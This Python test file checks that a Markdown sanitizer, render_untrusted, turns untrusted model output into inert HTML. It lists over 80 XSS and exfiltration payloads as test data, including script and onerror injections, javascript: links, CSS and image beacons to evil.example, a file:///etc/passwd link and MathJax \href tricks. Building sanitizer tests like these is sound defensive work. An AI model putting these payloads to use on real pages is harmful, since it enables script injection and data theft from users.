"""Model output can do nothing but be read."""

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mtor_kernel.telling.markdown import SCHEMES, TAGS, readable, render_untrusted

#: Whatever an attacker may have a model say. Each must come out as words.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?leak'>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href='https://evil.example/p.png'></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object>",
    "<embed src='https://evil.example'>",
    "<video poster='https://evil.example/p.png'><source src=x></video>",
    "<audio src='https://evil.example/a.mp3' autoplay>",
    "<style>body{background:url(https://evil.example/?leak)}</style>",
    "<div style='background:url(https://evil.example/?leak)'>x</div>",
    "<p id='jp-main-dock-panel' class='jp-mod-current'>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg/onload=alert(1)&#x3e;",
    "![leak](https://evil.example/?leak)",
    "![leak][pic]\n\n[pic]: https://evil.example/?leak",
    "![leak]\n\n[leak]: https://evil.example/?leak 'title'",
    "[![leak](https://evil.example/?leak)](https://evil.example)",
    "![a](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)",
    "![a](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
    '![a](https://evil.example/x.png "onerror=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/x)",
    "[x](/hub/logout)",
    "[x](../api/shutdown)",
    "[x](#top)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://evil.example "title\' onmouseover=alert(1)")',
    "[x](https://evil.example/\"onmouseover='alert(1)')",
    "[a](https://evil.example 'b\"><img src=x onerror=alert(1)>')",
    "[<script>alert(1)</script>](https://evil.example)",
    "[x](https://evil.example)[y](javascript:alert(1))",
    "> 1. - # ![n](https://evil.example/?leak)\n>    - <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](https://evil.example/x) |",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```language' onclick=alert(1)\ncode\n```",
    "``` x style=background:url(https://evil.example)\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "*<img src=x onerror=alert(1)>*",
    "~~<svg onload=alert(1)>~~",
    "    <script>alert(1)</script>",
    r"\<img src=x onerror=alert(1)\>",
    "<img src=x onerror=\nalert(1)>",
    "<\x00script>alert(1)</script>",
    "\u2028<img src=x onerror=alert(1)>",
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\style{background:url(https://evil.example/?leak)}{x}$$",
    r"\(\class{jp-evil}{x}\) \[\cssId{main}{x}\]",
    r"\begin{align}\href{https://evil.example}{x}\end{align}",
    r"$\require{html}\style{color:red}{x}$",
    "https://evil.example/<img src=x onerror=alert(1)>",
]


class Seen(HTMLParser):
    """Everything that a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        #: Words outside ``code`` and ``pre``, where MathJax looks for formulas.
        self.words = ""
        self._code = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._code += tag in ("code", "pre")

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag in ("code", "pre")

    def handle_data(self, data: str) -> None:
        if not self._code:
            self.words += data


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    for tag, attributes in seen.tags:
        assert tag in TAGS
        if tag == "a":
            assert set(attributes) <= {"href", "target", "rel"}
            assert attributes.get("rel") == "noopener noreferrer"
            assert attributes.get("target") == "_blank"
            if "href" in attributes:
                assert urlsplit(attributes["href"] or "").scheme in SCHEMES
        elif tag == "ol":
            assert set(attributes) <= {"start"}
        elif tag == "code" and attributes:
            assert set(attributes) == {"class"}
            assert re.fullmatch(r"language-[\w+#.-]+", attributes["class"] or "")
        else:
            assert not attributes
    assert not re.search(r"\\(href|url|style|class|cssId|require)\b", seen.words)


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 80


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_comes_out_as_words(payload: str) -> None:
    assert_harmless(render_untrusted(payload))


@pytest.mark.parametrize("first", PAYLOADS[::7])
@pytest.mark.parametrize("second", PAYLOADS[::5])
def test_two_attacks_at_once_come_out_as_words(first: str, second: str) -> None:
    for joined in (f"{first}{second}", f"{first}\n\n{second}", f"[{first}]({second})"):
        assert_harmless(render_untrusted(joined))


@given(st.text(alphabet=st.sampled_from("<>\"'`()[]{}!\\/$&#;:=*_~|-+ \n\tajstx0123")))
def test_no_punctuation_comes_through(text: str) -> None:
    assert_harmless(render_untrusted(text))


@pytest.mark.parametrize(
    ("link", "shown"),
    [
        ("[here](https://example.org/a?b=c)", "(example.org)"),
        ("[https://good.example](https://evil.example)", "(evil.example)"),
        ("<https://good.example@evil.example/>", "(evil.example)"),
        ("[good](https://good.example:pw@evil.example/)", "(evil.example)"),
        ("[mail](mailto:me@example.org)", "(me@example.org)"),
        ("[apple](https://\u0430pple.example)", "(xn--"),
    ],
)
def test_a_link_shows_where_it_leads(link: str, shown: str) -> None:
    assert shown in Seen(render_untrusted(link)).words


def test_an_address_that_is_its_own_label_is_shown_once() -> None:
    assert Seen(render_untrusted("<https://example.org/a>")).words.count("example.org") == 1


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Title", "<h1>Title</h1>"),
        ("*a* **b** ~~c~~ `d`", "<em>a</em> <strong>b</strong> <s>c</s> <code>d</code>"),
        ("- a\n- b", "<ul>"),
        ("3. a", '<ol start="3">'),
        ("> a", "<blockquote>"),
        ("|a|b|\n|:-|-:|\n|1|2|", "<th>a</th>"),
        ("```python\nx = 1 < 2\n```", '<pre><code class="language-python">x = 1 &lt; 2\n'),
        ("![a cat](https://example.org/cat.png)", "<em>[picture: a cat]</em>"),
        ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
    ],
)
def test_what_a_reader_needs_is_kept(text: str, html: str) -> None:
    assert html in render_untrusted(text)


@pytest.mark.parametrize(
    "formula", ["$a_1 * b_2 * c$", "$$x_{i} + y_{i}$$", r"\(a_b*c*d\)", r"\[ \frac{a}{b} \]"]
)
def test_a_formula_is_left_for_the_front_end(formula: str) -> None:
    assert render_untrusted(f"So {formula} holds.") == f"<p>So {formula} holds.</p>\n"


def test_amounts_of_money_are_no_formula() -> None:
    html = render_untrusted("It costs $5 or $6.")
    assert "$5 or $" not in html
    assert Seen(html).words.strip() == "It costs $5 or $6."


def test_what_a_terminal_obeys_is_left_out() -> None:
    assert readable("a\x1b[31mb\x07c\u202ed\te\r\nf") == "a[31mbcd\te\nf"


@pytest.mark.parametrize(
    "unit", ["[", "![a", "*a", "$a ", r"\(", r"\[ ", "`", "[](a", "~~a", "<a", "&#"]
)
def test_a_long_hostile_answer_takes_no_more_than_a_long_one(unit: str) -> None:
    began = time.process_time()
    render_untrusted(unit * 5_000)
    assert time.process_time() - began < 5
